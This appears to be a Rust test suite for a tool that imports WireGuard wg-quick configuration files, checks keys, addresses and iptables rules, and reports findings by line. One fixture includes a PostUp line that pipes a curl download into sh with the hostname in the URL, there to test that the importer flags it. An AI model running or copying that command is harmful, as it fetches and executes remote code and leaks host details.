//! Files as they are found, imported, and the result read as a fabric's file.

use netloom_model::fabric::{Attach, Fabric};
use netloom_wg_quick::{Import, Imported, Severity, parse};
use std::path::PathBuf;

const IMPORT: Import<'_> = Import {
    interface: "wg0",
    network: "office",
    node: "alpha",
    key_folder: "/etc/netloom/office",
};
/// Keys for tests: 32 bytes, of which only the last says which.
const KEYS: [&str; 4] = [
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAE=",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAI=",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAM=",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQ=",
];

fn imported(text: &str) -> Imported {
    let (file, findings) = parse(text);
    assert_eq!(findings, [], "{text}");
    IMPORT.run(&file)
}

/// The fabric that an import makes together with a node.
fn fabric(imported: &Imported) -> Fabric {
    let base = "version: 1\nfabric: f\nregions: { here: {} }\nnodes: { alpha: { region: here } }\n";
    let text = format!("{base}{}", imported.yaml);
    let loaded = netloom_model::load(&["f.yaml".to_owned()], |_| Ok(text.clone().into_bytes()));
    let rendered = netloom_model::diagnostic::render(&loaded.diagnostics, &loaded.sources);
    loaded.fabric.unwrap_or_else(|| panic!("{rendered}\n{text}"))
}

fn lines(imported: &Imported, severity: Severity) -> Vec<u32> {
    let found = imported.findings.iter().filter(|found| found.severity == severity);
    found.map(|found| found.line).collect()
}

#[test]
fn a_server_with_placeholders_is_imported_and_what_is_missing_is_named() {
    let imported = imported(
        "[Interface]\nPrivateKey = <server-private-key>\nAddress = 10.200.0.1/24\n\
         ListenPort = 51820\nPostUp = iptables -A FORWARD -i wg0 -j ACCEPT\n\
         PostDown = iptables -D FORWARD -i wg0 -j ACCEPT\n\n# Edge device: attic\n[Peer]\n\
         PublicKey = <attic-public-key>\nAllowedIPs = 10.200.0.10/32, 192.168.4.0/24\n\
         PersistentKeepalive = 25\n\n# Edge device: barn-pi\n[Peer]\nPublicKey = <barn-public-key>\n\
         AllowedIPs = 10.200.0.11/32\nPersistentKeepalive = 25\n",
    );
    assert_eq!(imported.peers, ["attic", "barn-pi"]);
    assert_eq!(imported.key_files, []);
    // The private key and both public keys.
    assert_eq!(lines(&imported, Severity::Warning), [2, 10, 16]);
    let fabric = fabric(&imported);
    let attic = &fabric.workloads["attic"];
    assert_eq!(attic.advertise, ["192.168.4.0/24".parse().unwrap()]);
    assert_eq!(attic.stock_peer().unwrap().keepalive.unwrap().as_secs(), 25);
    assert!(fabric.workloads["office-host"].is_host());
    assert!(imported.yaml.contains("reserved: last"), "{}", imported.yaml);
    let egress = &fabric.security_groups["office-peers"].egress;
    assert_eq!(egress.len(), 1, "peers are forwarded everywhere: {egress:?}");
}

#[test]
fn keys_go_into_files_and_never_into_the_fabrics_file() {
    let [private, public, psk, _] = KEYS;
    let imported = imported(&format!(
        "[Interface]\nPrivateKey = {private}\nAddress = 10.200.0.1/24, fd00:200::1/64\n\
         [Peer]\n# Name = phone\nPublicKey = {public}\nPresharedKey = {psk}\n\
         AllowedIPs = 10.200.0.2/32, fd00:200::2/128\nEndpoint = phone.example.org:51820\n",
    ));
    assert!(!imported.yaml.contains(private) && !imported.yaml.contains(psk), "{}", imported.yaml);
    let paths: Vec<&str> = imported.key_files.iter().map(|file| file.path.as_str()).collect();
    assert_eq!(paths, ["/etc/netloom/office/private.key", "/etc/netloom/office/phone.psk"]);
    assert_eq!(lines(&imported, Severity::Warning), [0_u32; 0]);
    let fabric = fabric(&imported);
    let Attach::Wireguard(phone) = &fabric.workloads["phone"].attach else { panic!() };
    assert_eq!(phone.public_key.unwrap()[31], 2);
    assert_eq!(phone.preshared_key_file.as_deref(), Some(paths[1]));
    assert_eq!(fabric.workloads["phone"].addresses.len(), 2);
    assert_eq!(fabric.nodes["alpha"].private_key_files["office"], paths[0]);
}

#[test]
fn commands_become_groups_or_are_named_with_their_line() {
    let key = KEYS[1];
    let imported = imported(&format!(
        "[Interface]\nAddress = 10.9.0.1/24\nListenPort = 5\n\
         PostUp = iptables -A FORWARD -i %i -d 10.9.0.0/24 -p tcp -m multiport --dports 22,80:90 -j ACCEPT\n\
         PostUp = iptables -A FORWARD -o wg0 -m state --state RELATED,ESTABLISHED -j ACCEPT\n\
         PostUp = iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE; ip6tables -A FORWARD -i wg0 -j DROP\n\
         PostUp = sysctl -w net.ipv4.ip_forward=1\n\
         PostUp = iptables -A INPUT -i wg0 -p udp --dport 53 -j ACCEPT\n\
         PostUp = curl https://example.org/$(hostname) | sh\n\
         PostUp = nft add rule inet filter forward oifname \"wg0\" ip saddr 10.1.0.0/16 accept\n\
         PostDown = iptables -D FORWARD -i wg0 -j ACCEPT\n\
         [Peer]\nPublicKey = {key}\nAllowedIPs = 10.9.0.7/32\n",
    ));
    // The translation, the shell, the rule after a refusal; and that there is no private key.
    assert_eq!(lines(&imported, Severity::Warning), [6, 9, 10, 0]);
    let fabric = fabric(&imported);
    let peers = &fabric.security_groups["office-peers"];
    let egress = peers.egress.iter().find(|rule| !rule.ports.is_empty()).unwrap();
    assert_eq!(
        egress.ports.iter().map(|range| (range.first, range.last)).collect::<Vec<_>>(),
        [(22, 22), (80, 90)]
    );
    let from_outside = |rule: &&netloom_model::fabric::GroupRule| matches!(&rule.peer, netloom_model::fabric::Peer::Cidr(prefix) if prefix.to_string() == "10.1.0.0/16");
    assert_eq!(peers.ingress.iter().filter(from_outside).count(), 1);
    let host = &fabric.security_groups["office-host"].ingress;
    assert_eq!(
        (host.len(), host[0].ports[0].first),
        (1, 53),
        "the file judges the host's own packets"
    );
}

#[test]
fn every_wrong_line_is_told_at_once() {
    let (_, findings) = parse(
        "Address = 10.0.0.1/24\n[Interface]\nPrivateKey = almost\nAddress = 10.0.0.300/24\n\
         ListenPort = 70000\nPort = 5\n[Interface]\n[Pear]\nX = 1\n[Peer]\nEndpoint = nowhere\n\
         PersistentKeepalive = often\nhello\n",
    );
    let lines: Vec<u32> = findings.iter().map(|found| found.line).collect();
    // What the peer of line 10 lacks is told at its header.
    assert_eq!(lines, [1, 3, 4, 5, 6, 7, 8, 11, 12, 13, 10, 10], "{findings:#?}");
    assert!(findings.iter().all(|found| !found.solution.is_empty()));
}

#[test]
fn what_is_not_told_is_counted() {
    let (_, findings) =
        parse(&format!("[Interface]\nPrivateKey = {}\n{}", KEYS[0], "hello\n".repeat(1_005)));
    assert_eq!(findings.len(), 1_001);
    let last = findings.last().unwrap();
    assert_eq!((last.line, last.severity), (0, Severity::Error));
    assert_eq!(last.message, "5 more findings are not told, 5 of them errors");
}

/// The lines of what is found in a file of an interface, which has four lines, and of some peers.
fn found(settings: &str, peers: &str) -> Vec<(u32, Severity)> {
    let (file, mut findings) = parse(&format!(
        "[Interface]\nPrivateKey = {}\nAddress = 10.9.0.1/24\n{settings}\n{peers}",
        KEYS[0]
    ));
    findings.extend(IMPORT.run(&file).findings);
    findings.iter().map(|found| (found.line, found.severity)).collect()
}

#[test]
fn what_each_peer_lacks_is_told_whatever_another_one_lacks() {
    let [_, first, second, _] = KEYS;
    let peers = format!(
        "[Peer]\nAllowedIPs = 10.9.0.2/32\n[Peer]\nPublicKey = {first}\nAllowedIPs = 10.9.0.3/32\n\
         PersistentKeepalive = often\n[Peer]\nPublicKey = {second}\n"
    );
    let error = Severity::Error;
    assert_eq!(found("MTU = 1420", &peers), [(10, error), (5, error), (11, error)]);
}

#[test]
fn settings_are_what_wg_and_wg_quick_take() {
    for right in
        ["ListenPort = 0", "FwMark = off", "FwMark = 0", "DNS = 10.9.0.9 10.9.0.8", "FwMark = 0x0"]
    {
        assert_eq!(found(right, ""), [], "{right}");
    }
    for left_out in ["FwMark = 0xca6c", "FwMark = 51820"] {
        assert_eq!(found(left_out, ""), [(4, Severity::Warning)], "{left_out}");
    }
    // Search domains.
    for left_out in ["DNS = foo bar", "DNS = 10.9.0.9, ~., ~corp.example.org, a_b.example"] {
        assert_eq!(found(left_out, ""), [(0, Severity::Warning)], "{left_out}");
    }
    for wrong in ["FwMark = zz", "FwMark = 0x", "FwMark = +5", "DNS = 10.9.0.300", "DNS = a$b"] {
        assert_eq!(found(wrong, "")[0], (4, Severity::Error), "{wrong}");
    }
    let (file, findings) = parse("\u{feff}[Interface]\nAddress = 10.9.0.1/24 fd00::1/64\n");
    assert_eq!((file.interface.addresses.len(), findings.len()), (2, 0), "past the mark");
}

#[test]
fn peers_are_as_wireguard_makes_them_of_sections() {
    let [_, first, second, third] = KEYS;
    let text = format!(
        "[Interface]\nAddress = 10.9.0.1/24\n[Peer]\nPublicKey = {first}\nAllowedIPs = 10.9.0.2/32, 10.1.0.0/16\n\
         Endpoint = a.example.org:5\n[Peer]\nPublicKey = {second}\nAllowedIPs = 10.1.0.0/16, 10.9.0.3/32\n\
         [Peer]\nPublicKey = {first}\nAllowedIPs = 10.9.0.4/32\nPersistentKeepalive = 25\n\
         [Peer]\nPublicKey = {third}\nAllowedIPs = 10.9.0.2/32\n"
    );
    let (file, findings) = parse(&text);
    let allowed: Vec<String> = file
        .peers
        .iter()
        .map(|peer| peer.allowed.iter().map(ToString::to_string).collect::<Vec<_>>().join(" "))
        .collect();
    // What the first peer had is free again when its second section takes the place of the first.
    assert_eq!(allowed, ["10.9.0.4/32", "10.1.0.0/16 10.9.0.3/32", "10.9.0.2/32"]);
    let merged = &file.peers[0];
    assert_eq!(
        (merged.endpoint.as_deref(), merged.keepalive_s),
        (Some("a.example.org:5"), Some(25))
    );
    let told: Vec<(u32, Severity)> =
        findings.iter().map(|found| (found.line, found.severity)).collect();
    assert_eq!(told, [(7, Severity::Warning), (10, Severity::Warning)], "{findings:#?}");
    assert!(findings[1].message.contains("without 10.9.0.2/32"), "{}", findings[1]);
}

#[test]
fn a_peer_of_whose_addresses_none_is_left_is_left_out() {
    let peer = |key| format!("[Peer]\nPublicKey = {key}\nAllowedIPs = 10.9.0.2/32\n");
    let peers = peer(KEYS[1]) + &peer(KEYS[2]);
    assert_eq!(found("MTU = 1420", &peers), [(8, Severity::Warning), (5, Severity::Warning)]);
}

#[test]
fn of_what_cannot_be_read_only_that_is_told() {
    let peer = format!("[Peer]\nPublicKey = {}\nAllowedIPs = 10.9.0.2/33\n", KEYS[1]);
    assert_eq!(found("MTU = 1420", &peer), [(7, Severity::Error)]);
}

#[test]
fn a_network_of_another_size_than_the_file_says_is_told() {
    for (address, is_told) in
        [("fd00:9::1/64", false), ("fd00:9::1/112", true), ("fd00:9::1/48", true)]
    {
        let imported =
            imported(&format!("[Interface]\nPrivateKey = {}\nAddress = {address}\n", KEYS[0]));
        let told =
            imported.findings.iter().any(|one| one.message.contains("taken to be fd00:9::/64"));
        assert_eq!(told, is_told, "{address}: {:#?}", imported.findings);
    }
}

#[test]
fn the_way_to_everywhere_is_left_out_also_in_parts() {
    let peer = |allowed: &str| {
        let text =
            format!("[Peer]\nPublicKey = {}\nAllowedIPs = 10.9.0.2/32, {allowed}\n", KEYS[1]);
        found("MTU = 1420", &text)
    };
    for part in ["0.0.0.0/0", "0.0.0.0/1", "128.0.0.0/1", "::/0", "8000::/1", "2000::/3"] {
        assert_eq!(peer(part), [(5, Severity::Warning)], "{part}");
    }
    for site in ["10.0.0.0/8", "fd00::/8", "2001:db8::/32", "4000::/3"] {
        assert_eq!(peer(site), [], "{site}");
    }
}

#[test]
fn a_peer_with_the_interfaces_own_address_is_refused() {
    let peer = format!("[Peer]\nPublicKey = {}\nAllowedIPs = 10.9.0.1/32\n", KEYS[1]);
    assert_eq!(found("MTU = 1420", &peer), [(5, Severity::Error)]);
}

/// What is said to declare instead of a translation loads, and is a way out.
#[test]
fn the_way_out_that_is_proposed_for_a_translation_is_one() {
    let rules = "PostUp = iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE";
    let imported = imported(&format!(
        "[Interface]\nPrivateKey = {}\nAddress = 10.9.0.1/24\n{rules}\n[Peer]\nPublicKey = {}\n\
         AllowedIPs = 10.9.0.2/32\n",
        KEYS[0], KEYS[1]
    ));
    let solution = &imported.findings[0].solution;
    let quoted: Vec<&str> = solution.split('`').skip(1).step_by(2).collect();
    let gateway = quoted.iter().find(|part| part.starts_with("nat_gateways")).unwrap();
    let subnet = quoted.iter().find(|part| part.starts_with("nat_gateway:")).unwrap();
    let network = "    network: office\n";
    let yaml = imported.yaml.replace(network, &format!("{network}    {subnet}\n"));
    let fabric = fabric(&Imported { yaml: format!("{yaml}{gateway}\n"), ..Imported::default() });
    assert_eq!(fabric.gateways["office-nat"].network, "office");
}

#[test]
fn a_peer_that_leads_to_its_whole_network_is_imported() {
    let [private, public, ..] = KEYS;
    let imported = imported(&format!(
        "[Interface]\nPrivateKey = {private}\nAddress = 10.200.0.10/24\n[Peer]\nPublicKey = {public}\n\
         Endpoint = vpn.example.org:51820\nAllowedIPs = 10.0.0.0/8, 10.200.0.0/24, 0.0.0.0/0\n",
    ));
    let fabric = fabric(&imported);
    assert_eq!(imported.peers, ["office-peer-1"]);
    assert_eq!(fabric.workloads["office-peer-1"].advertise.len(), 2);
    assert_eq!(lines(&imported, Severity::Warning), [4], "the way to everywhere is left out");
}

#[test]
fn the_corpus_replays_without_panic() {
    let folder =
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../fuzz/corpus/wg_quick_file");
    let mut files = 0;
    for entry in std::fs::read_dir(folder).unwrap() {
        netloom_wg_quick::fuzz::file(&std::fs::read(entry.unwrap().path()).unwrap());
        files += 1;
    }
    assert!(files >= 8, "{files} files");
}

mod any {
    use proptest::prelude::*;

    fn words() -> impl Strategy<Value = String> {
        let word = prop::sample::select(vec![
            "[Interface]\n",
            "[Peer]\n",
            "PrivateKey = ",
            "Address = ",
            "AllowedIPs = ",
            "PostUp = ",
            "PostDown = ",
            "iptables ",
            "-A ",
            "FORWARD ",
            "-i ",
            "wg0 ",
            "-j ",
            "ACCEPT",
            "DROP",
            "\n",
            "10.0.0.1",
            "/24",
            "/32",
            "/0",
            ", ",
            "fd00::1",
            "::",
            "#",
            "\"",
            "'",
            ";",
            " && ",
            "%i",
            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAE=",
            "<key>",
            "é",
            "\0",
            "=",
            "nft add rule ",
            "ip saddr ",
            "--dport ",
            "53:",
            "0",
            "DNS = ",
            "MTU = ",
            "Table = off\n",
            "\r\n",
        ]);
        prop::collection::vec(word, 0..60).prop_map(|words| words.concat())
    }

    proptest! {
        #[test]
        fn any_bytes_are_read_or_told(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
            netloom_wg_quick::fuzz::file(&bytes);
        }

        #[test]
        fn any_words_of_such_files_are_read_or_told(text in words()) {
            netloom_wg_quick::fuzz::file(text.as_bytes());
        }
    }
}

mod written {
    use netloom_wg_quick::{Export, parse};
    use proptest::prelude::*;

    proptest! {
        /// What is written for a peer reads back as what it was.
        #[test]
        fn what_is_written_reads_back(
            v4 in any::<[u8; 4]>(),
            v6 in any::<u128>(),
            lengths in (0..=32u8, 0..=128u8),
            mtu_bytes in 576..=65_535u32,
            keepalive_s in prop::option::of(1..=65_535u16),
            preshared: bool,
        ) {
            let addresses: [std::net::IpAddr; 2] = [v4.into(), std::net::Ipv6Addr::from(v6).into()];
            let prefix = |at: usize, length| ipnet::IpNet::new_assert(addresses[at], length).trunc();
            let key = |last: char| format!("{}{last}=", "A".repeat(42));
            let export = Export {
                peer: "phone".into(),
                network: "app".into(),
                private_key: Some(key('E')),
                addresses: addresses.into(),
                resolvers: vec![addresses[0]],
                domain: "app.internal".into(),
                mtu_bytes,
                node: "alpha".into(),
                node_key: key('I'),
                preshared_key: preshared.then(|| key('M')),
                endpoint: Some("[2001:db8::1]:51820".into()),
                allowed: vec![prefix(0, lengths.0), prefix(1, lengths.1)],
                keepalive_s,
            };
            let (file, findings) = parse(&export.text());
            prop_assert_eq!(findings, []);
            let peer = &file.peers[0];
            prop_assert_eq!(&peer.allowed, &export.allowed);
            prop_assert_eq!(peer.keepalive_s, keepalive_s);
            prop_assert_eq!(&peer.endpoint, &export.endpoint);
            prop_assert_eq!(peer.preshared_key.is_some(), preshared);
            prop_assert_eq!(file.interface.dns, export.resolvers);
            prop_assert_eq!(file.interface.mtu_bytes.map(u32::from), Some(mtu_bytes));
        }
    }
}
